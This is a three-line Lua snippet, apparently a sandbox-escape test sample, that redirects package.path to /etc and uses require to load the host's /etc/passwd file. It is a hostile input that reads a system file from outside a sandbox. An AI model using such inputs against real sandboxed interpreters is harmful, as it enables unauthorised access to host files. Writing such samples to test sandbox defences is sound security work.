-- Escape: point require at the host's files.
package.path = "/etc/?" -- escape
return require("passwd")
